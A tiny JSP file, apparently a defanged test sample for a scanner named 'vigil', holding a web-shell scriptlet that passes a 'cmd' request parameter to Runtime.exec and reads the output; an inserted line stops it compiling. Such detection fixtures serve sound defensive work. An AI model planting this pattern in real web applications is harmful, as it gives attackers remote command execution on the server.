<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
    String c = request.getParameter("cmd");
    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
    java.io.InputStream in = p.getInputStream();
%>
